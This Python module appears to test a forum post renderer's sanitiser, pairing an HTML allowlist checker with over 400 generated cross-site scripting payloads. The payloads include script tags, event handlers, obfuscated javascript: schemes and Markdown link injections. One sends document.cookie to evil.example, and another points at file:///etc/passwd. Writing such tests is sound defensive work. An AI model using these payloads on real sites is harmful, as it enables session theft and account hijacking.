"""What must never be in the HTML of a post, and payloads that try to put it there."""

from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

ELEMENTS = frozenset({
    "a", "blockquote", "br", "cite", "code", "del", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "span",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
})  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "rel"},
    "cite": {"class", "data-post"},
    "ol": {"start"},
    "span": {"class"},
}
CLASSES = {"quoted", "masked", "masked-bar", "masked-value", "masked-note"}
EMPTY = {"br", "hr"}

_CODE = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script><p>{}",
    "<img src=x onerror={}>",
    "<img src=`x`onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x></svg>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math href=javascript:{}>x</math>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<!--><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml <script>{}</script>?>",
    "</p><script>{}</script><p>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\<script\\>{}\\</script\\>",
    "<scr\0ipt>{}</scr\0ipt>",
    "<scr\u200bipt>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "java&Tab;script:{}",
    "&#106;avascript:{}",
    "javascript&colon;{}",
    "%6aavascript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript://example.org/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/png;base64,iVBORw0KGgo=",
    "view-source:{}",
    "feed:javascript:{}",
    "file:///etc/passwd",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "<{}>",
    "![x]({})",
    "![x][r]\n\n[r]: {}",
    "[![x]({0})]({0})",
    '[x]({} "onmouseover=alert(1)")',
    "http://a.example/{}",
    "> #4:\n> [x]({})",
    "| a |\n|---|\n| [x]({}) |",
)
_OTHERS = (
    'http://a.example/"onmouseover=alert(1)',
    "http://a.example/'onmouseover=alert(1)'",
    "www.a.example/<script>alert(1)</script>",
    '[x](http://a.example/"onmouseover="alert\\(1\\))',
    '[x](http://a.example "\\"onmouseover=alert(1)")',
    '[x](http://a.example "</a><script>alert(1)</script>")',
    '```"><script>alert(1)</script>\nx\n```',
    "```x onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '> #4" onclick="alert(1):\n> x',
    "> #4:<script>alert(1)</script>\n> x",
    '<cite class="quoted" data-post="4" onclick="alert(1)"></cite>',
    '1" onclick="alert(1). x',
    "99999999999999. x",
    "|a|\n|:-:|\n|<script>alert(1)</script>|",
    '|a|\n|:-:" style="x|\n|b|',
    '<span class="masked-value">x</span>',
    "![x](http://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](a.png)",
    "[x](//evil.example)",
    "\u2028<script>alert(1)</script>\u2029",
    '<a@b.example?subject=x"onclick=alert(1)>',
)


def payloads() -> list[str]:
    """More than 400 sources, each with something in it that must not come through."""
    links = [link.format(scheme) for link, scheme in product(_LINKS, (s.format("alert(1)") for s in _SCHEMES))]
    elements = [element.format(code) for element, code in product(_ELEMENTS, _CODE)]
    wrapped = [f"> - **{element.format('alert(1)')}**" for element in _ELEMENTS]
    return [*elements, *wrapped, *links, *_OTHERS]


def dangers(html: str) -> list[str]:
    """What is wrong with the HTML: anything that runs, loads, or does not close."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found + [f"<{tag}> is not closed" for tag in reader.open]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag not in EMPTY:
            self.open.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> out of place")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES.get(tag, set()):
            self.found.append(f"{tag} {name}")
        if name == "class" and value not in CLASSES:
            self.found.append(f"class {value}")
        if name in ("data-post", "start") and not (value.isascii() and value.isdigit()):
            self.found.append(f"{name} {value}")
        if name == "rel" and value != "noopener noreferrer nofollow ugc":
            self.found.append(f"rel {value}")
        if name == "href" and urlsplit(value).scheme not in ("http", "https", "mailto", ""):
            self.found.append(f"href {value}")
